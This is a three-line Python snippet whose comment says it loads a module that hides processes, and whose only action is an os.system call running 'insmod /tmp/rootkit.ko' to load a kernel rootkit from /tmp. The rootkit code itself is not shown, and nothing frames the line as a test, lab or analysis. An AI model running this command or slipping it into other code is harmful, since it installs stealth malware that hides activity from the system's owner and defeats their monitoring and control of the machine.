import os
# Load a module that hides processes.
os.system("insmod /tmp/rootkit.ko")
